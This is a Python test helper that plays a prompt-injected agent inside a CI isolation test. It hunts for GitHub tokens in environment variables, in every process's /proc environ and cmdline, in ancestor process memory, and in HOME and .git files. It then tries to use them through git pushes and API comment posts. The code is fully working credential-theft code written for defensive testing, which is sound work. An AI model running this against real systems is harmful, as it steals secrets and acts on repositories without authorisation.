"""A hostile hunter for the isolation tests: look for a GitHub credential everywhere, then use it.

``hunt(who)`` reads its settings from ``hunt.json`` next to this file ({api, repo, origin, paths,
loot}) and tries every vector an injected agent has: its own environment, ``/proc/*/environ`` and
``cmdline`` of every process, the writable memory of its ancestors (``/proc/<pid>/mem``), the files
under ``paths`` (the action's HOME, the workspace's ``.git``, ``$RUNNER_TEMP`` with the event file),
its HOME, ``git config`` where it runs, ``git push`` to the origin, and a POST of an issue comment to
the GitHub API with every token-shaped string it found (and with none). It writes what it did to
``<loot>/<who>-<pid>.json``: {who, uid, read, denied, tokens: {token: [sources]}, posts, pushes}.
Standard library only: the hunter runs as the agent user with whatever python it finds.
"""

import base64
import json
import os
import re
import subprocess
import tempfile
import urllib.error
import urllib.request
from pathlib import Path

HERE = Path(__file__).resolve().parent
TOKENISH = re.compile(r"(gh[pousr]_[A-Za-z0-9_]{20,}|github_pat_[A-Za-z0-9_]{20,})")
BASIC = re.compile(r"basic\s+([A-Za-z0-9+/=]{16,})", re.IGNORECASE)
MAX_FILE = 2 * 1024 * 1024


def tokens_in(text):
    found = set(TOKENISH.findall(text))
    for blob in BASIC.findall(text):
        try:
            found.update(TOKENISH.findall(base64.b64decode(blob).decode("utf-8", "replace")))
        except ValueError:
            pass
    return found


class Hunt:
    def __init__(self, who):
        self.cfg = json.loads((HERE / "hunt.json").read_text())
        self.report = {"who": who, "uid": os.getuid(), "read": 0, "denied": 0, "tokens": {}, "posts": [],
                       "pushes": [], "mem_read": []}

    def look(self, source, data):
        text = data.decode("utf-8", "replace") if isinstance(data, bytes) else data
        for token in tokens_in(text.replace("\0", "\n")):
            self.report["tokens"].setdefault(token, []).append(source)

    def read(self, path, source=None):
        try:
            with open(path, "rb") as fh:
                data = fh.read(MAX_FILE)
        except OSError:
            self.report["denied"] += 1
            return
        self.report["read"] += 1
        self.look(source or str(path), data)

    def proc(self):
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                for name in ("environ", "cmdline"):
                    self.read(f"/proc/{entry}/{name}")

    def memory(self):
        pid = os.getppid()
        for _ in range(8):  # the ancestors: the shell, the action, its parents
            if pid <= 1:
                return
            self.read_memory(pid)
            try:
                stat = Path(f"/proc/{pid}/stat").read_text()
                pid = int(stat.rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                return

    def read_memory(self, pid):
        try:
            maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb")  # noqa: SIM115 - an open that fails is the finding
        except OSError:
            self.report["denied"] += 1
            return
        with mem:
            budget = 256 * 1024 * 1024
            for line in maps:
                parts = line.split()
                if len(parts) < 2 or not parts[1].startswith("rw") or budget <= 0:
                    continue
                start, end = (int(x, 16) for x in parts[0].split("-"))
                size = min(end - start, budget)
                try:
                    mem.seek(start)
                    data = mem.read(size)
                except (OSError, OverflowError, ValueError):
                    continue
                budget -= size
                self.look(f"/proc/{pid}/mem", data)
            status = Path(f"/proc/{pid}/status").read_text()
            uid = int(status.split("\nUid:", 1)[1].split()[0])
            self.report["mem_read"].append({"pid": pid, "uid": uid})

    def files(self):
        for root in [*self.cfg["paths"], os.path.expanduser("~")]:
            if os.path.isfile(root):
                self.read(root)
                continue
            if not os.path.isdir(root):
                self.read(root)  # counted as denied when it cannot be reached
                continue
            for dirpath, _dirs, names in os.walk(root, onerror=lambda e: self.report.__setitem__(
                    "denied", self.report["denied"] + 1)):
                for name in names:
                    self.read(os.path.join(dirpath, name))

    def git(self):
        proc = subprocess.run(check=False, args=["git", "config", "--list", "--show-origin"], capture_output=True, text=True)
        self.look("git config", proc.stdout)
        who = self.report["who"]
        for remote in ("origin", self.cfg["origin"]):
            proc = subprocess.run(check=False, args=["git", "push", remote, f"HEAD:refs/heads/hostile-{who}"], capture_output=True, text=True)
            self.report["pushes"].append({"remote": remote, "exit_code": proc.returncode, "where": "work tree"})
        with tempfile.TemporaryDirectory() as tmp:
            env = {**os.environ, "GIT_AUTHOR_NAME": "h", "GIT_AUTHOR_EMAIL": "h@h", "GIT_COMMITTER_NAME": "h",
                   "GIT_COMMITTER_EMAIL": "h@h"}
            for args in (["init", "-q"], ["commit", "-q", "--allow-empty", "-m", "hostile"]):
                subprocess.run(check=False, args=["git", *args], cwd=tmp, env=env, capture_output=True)
            proc = subprocess.run(check=False, args=["git", "push", self.cfg["origin"], f"HEAD:refs/heads/hostile-{who}"], cwd=tmp,
                                  env=env, capture_output=True, text=True)
            self.report["pushes"].append({"remote": self.cfg["origin"], "exit_code": proc.returncode, "where": "own repo"})

    def post(self):
        url = f"{self.cfg['api']}/repos/{self.cfg['repo']}/issues/1/comments"
        for token in [None, *self.report["tokens"]]:
            body = json.dumps({"body": f"HOSTILE {self.report['who']} wrote this"}).encode()
            request = urllib.request.Request(url, data=body, method="POST", headers={"Content-Type": "application/json"})
            if token:
                request.add_header("Authorization", f"token {token}")
            try:
                with urllib.request.urlopen(request, timeout=10) as answer:
                    status = answer.status
            except urllib.error.HTTPError as exc:
                status = exc.code
            except OSError:
                status = None
            self.report["posts"].append({"with_token": bool(token), "status": status})

    def run(self):
        self.look("env", "\n".join(f"{k}={v}" for k, v in os.environ.items()))
        self.proc()
        self.memory()
        self.files()
        self.git()
        self.post()
        loot = Path(self.cfg["loot"]) / f"{self.report['who']}-{os.getpid()}.json"
        loot.write_text(json.dumps(self.report, indent=1))
        os.chmod(loot, 0o666)
        return self.report


def hunt(who):
    return Hunt(who).run()
